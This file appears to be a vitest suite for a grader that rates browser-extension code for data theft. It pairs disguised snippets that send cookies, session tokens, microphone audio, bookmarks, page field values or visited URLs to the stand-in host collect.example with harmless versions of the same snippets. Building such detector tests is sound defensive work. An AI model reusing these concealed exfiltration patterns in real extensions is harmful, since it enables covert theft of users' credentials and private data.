import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * Ways of ordinary programs between what is taken and what is sent, as forty harmful programs written blind had them, each
 * beside the same program with nothing taken.
 */

const SEND = "fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(DATA) })";
const send = (data: string): string => SEND.replace('DATA', data);

it.each<[string, (data: string) => string]>([
  [
    'an event whose name is handed to who raises it',
    (data) =>
      `class Bus extends EventTarget { say(type, detail) { this.dispatchEvent(new CustomEvent(type, { detail })); } } const bus = new Bus(); bus.addEventListener('seen', ({ detail }) => { ${send('detail')}; }); bus.say('seen', ${data});`,
  ],
  [
    'a list of functions, each of which fills the same object',
    (data) =>
      `const plugins = []; const use = (one) => plugins.push(one); use((event) => { event.s = ${data}; }); function track() { let event = { n: 1 }; plugins.forEach((one) => { event = one(event) || event; }); ${send('event')}; } addEventListener('pagehide', track);`,
  ],
  [
    'letters of an alphabet that the bits of a text pick',
    (data) =>
      `const LETTERS = 'abcdefghijklmnop'; let bits = ''; for (const one of new TextEncoder().encode(${data})) bits += one.toString(2); const out = bits.match(/.{1,4}/g).map((part) => LETTERS[parseInt(part, 2)]).join(''); ${send('out')};`,
  ],
  [
    'a method of the platform that is called like one of its own',
    (data) =>
      `class Codec { encode(text) { return [...new TextEncoder().encode(text)].join('.'); } } const made = new Codec().encode(${data}); ${send('made')};`,
  ],
  [
    'a form whose parts are made by Object.assign',
    (data) =>
      `const form = Object.assign(document.createElement('form'), { action: 'https://collect.example/q', method: 'post' }); form.append(Object.assign(document.createElement('input'), { name: 'a', value: ${data} })); document.body.append(form); form.submit();`,
  ],
  [
    'methods that wait, compiled for browsers that cannot',
    (data) =>
      `var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) { return new Promise(function (done) { generator.apply(thisArg, _arguments || []).next(); done(); }); }; var __generator = (this && this.__generator) || function (thisArg, body) { return { next: function () { return body.call(thisArg, { label: 0, sent: function () {} }); } }; }; var Queue = (function () { function Queue(work) { this.work = work; this.items = []; } Queue.prototype.add = function (one) { this.items.push(one); this.run(); }; Queue.prototype.run = function () { return __awaiter(this, void 0, void 0, function () { var one; return __generator(this, function (_a) { switch (_a.label) { case 0: one = this.items.shift(); return [4, this.work(one)]; case 1: _a.sent(); return [2]; } }); }); }; return Queue; }()); var queue = new Queue(function (one) { ${send('one')}; }); queue.add(${data});`,
  ],
])('%s', async (_, program) => {
  expect(await graded({ content: program('document.cookie') })).toBe('F');
  expect(await graded({ content: program("'nothing'") })).toMatch(/^A/);
});

const DEBUGGED = { permissions: ['debugger', 'tabs'] };
it('what the debugger tells of pages is theirs, also through a function that passes commands on', async () => {
  const asked = (command: string): string =>
    `const ask = (tab, method, more) => chrome.debugger.sendCommand(tab, method, more); chrome.debugger.onEvent.addListener(async (tab) => { const said = await ask(tab, '${command}', {}); ${send('said')}; });`;
  expect(await graded({ background: asked('Network.getCookies'), manifest: DEBUGGED })).toBe('F');
  expect(await graded({ background: asked('Performance.getMetrics'), manifest: DEBUGGED })).toMatch(/^[AB]/);
});

it('a program on the computer that does what a server says, by a port that is kept', async () => {
  const manifest = { permissions: ['nativeMessaging'] };
  const told = (message: string): string =>
    `let port = null; const tell = (what) => { port ??= chrome.runtime.connectNative('com.example.host'); port.postMessage(what); }; const socket = new WebSocket('wss://queue.example/'); socket.onmessage = (e) => { const job = JSON.parse(e.data); tell(${message}); };`;
  expect(await graded({ background: told('Object.assign({ n: 1 }, job)'), manifest })).toBe('D');
  expect(await graded({ background: told("{ method: 'show', title: 'new' }"), manifest })).toMatch(/^A/);
});

it('a sign-in token that goes back to who gave it, by a function that is told the address', async () => {
  const asks = (host: string): string =>
    `class Api { async call(url, body) { const { token } = await chrome.identity.getAuthToken({ interactive: true }); return fetch(url, { method: 'POST', headers: { Authorization: 'Bearer ' + token }, body }); } } chrome.alarms.onAlarm.addListener(() => new Api().call('https://${host}/calendar', 'x'));`;
  const manifest = {
    permissions: ['identity', 'alarms'],
    oauth2: { client_id: 'x', scopes: ['https://www.googleapis.com/auth/calendar'] },
  };
  expect(await graded({ background: asks('www.googleapis.com'), manifest })).toMatch(/^A/);
  expect(await graded({ background: asks('collect.example'), manifest })).toMatch(/^[BCDF]/);
});

it('what a recorder hears is the person’s, and theirs to send where they ask for it', async () => {
  const record = (then: string): string =>
    `navigator.mediaDevices.getUserMedia({ audio: true }).then((heard) => { const recorder = new MediaRecorder(heard); recorder.ondataavailable = (e) => { ${then} }; recorder.start(2500); });`;
  const sent = "fetch('https://collect.example/x', { method: 'POST', body: e.data });";
  expect(await graded({ background: record(sent) })).toBe('D');
  expect(await graded({ popup: `document.getElementById('b').onclick = () => { ${record(sent)} };` })).toMatch(/^A/);
  expect(await graded({ background: record('keep(URL.createObjectURL(e.data));') })).toMatch(/^A/);
});

it('a form that stands in the own document, with the fields that it has', async () => {
  const filed = (what: string): string =>
    `chrome.bookmarks.getTree((tree) => { const form = document.forms.report; form.action = 'https://collect.example/in'; form.elements.payload.value = JSON.stringify({ rows: ${what} }); form.submit(); });`;
  const manifest = { permissions: ['bookmarks'] };
  expect(await graded({ background: filed('tree'), manifest })).toMatch(/[DF]/);
  expect(await graded({ background: filed('[1]'), manifest })).toMatch(/^A/);
});

it('a function whose text is run in pages, and what it answers', async () => {
  const read = (what: string): string =>
    `function state() { return { at: 1, all: ${what} }; } chrome.tabs.onUpdated.addListener((id) => { chrome.tabs.executeScript(id, { code: '(' + state + ')()' }, (answers) => { ${send('answers[0].all')}; }); });`;
  const manifest = { manifest_version: 2, permissions: ['tabs', '<all_urls>'] };
  expect(await graded({ background: read("sessionStorage.getItem('token')"), manifest })).toBe('F');
  expect(await graded({ background: read('1'), manifest })).toMatch(/^A/);
});

it('an address that is written down is the receiver, whatever settings are sent along', async () => {
  const asked = (page: string): string =>
    `var LISTS = 'https://lists.collect.example'; function get(url, done) { var xhr = new XMLHttpRequest(); xhr.open('GET', url, true); xhr.onload = function () { done(xhr.responseText); }; xhr.send(); } function key(done) { chrome.storage.local.get('key', function (data) { done(data.key); }); } chrome.webNavigation.onCommitted.addListener(function (nav) { key(function (k) { get(LISTS + '/except?' + 'k=' + k + '&p=' + encodeURIComponent(${page}), function () {}); }); });`;
  const manifest = { permissions: ['webNavigation', 'storage'], options_page: 'options.html' };
  expect(await graded({ background: asked('nav.url'), manifest })).toBe('F');
  expect(await graded({ background: asked("'1'"), manifest })).toMatch(/^A/);
});

it.each<[string, string]>([
  [
    'a function that flattens what stands in shadow roots',
    'const all = (root) => [...root.querySelectorAll("*")].flatMap((e) => (e.shadowRoot ? all(e.shadowRoot) : e.matches("input") ? [e] : []));',
  ],
  [
    'a generator',
    'function* all(root) { for (const e of root.querySelectorAll("*")) { if (e.shadowRoot) yield* all(e.shadowRoot); else if (e.tagName === "INPUT") yield e; } }',
  ],
  [
    'a set that an observer fills',
    'const kept = new Set(); new MutationObserver((list) => { for (const { addedNodes } of list) for (const n of addedNodes) kept.add(n); }).observe(document, { childList: true }); const all = () => kept;',
  ],
])('fields of a page by way of %s', async (_, found) => {
  const sent = (part: string): string =>
    `${found} setInterval(() => { const out = []; for (const e of all(document)) out.push(${part}); ${send('out')}; }, 9000);`;
  expect(await graded({ content: sent('e.value') })).toBe('F');
  expect(await graded({ content: sent('1') })).toMatch(/^A/);
});

it('what is put into a made object from outside, its maker’s functions find by their own name for it', async () => {
  const store = (put: string): string =>
    `const make = (value) => { const it = { get() { return it.value; }, value }; return it; }; const makeMap = () => { const map = make({}); map.put = (key, one) => { map.value = { ...map.value, [key]: one }; }; return map; }; const kept = makeMap(); ${put}; setInterval(() => { const out = kept.get(); ${send('out')}; }, 9000);`;
  expect(await graded({ content: store("kept.put('c', document.cookie)") })).toBe('F');
  expect(await graded({ content: store('kept.value = document.cookie') })).toBe('F');
  expect(await graded({ content: store("kept.put('c', 'nothing'); document.cookie") })).toMatch(/^A/);
});
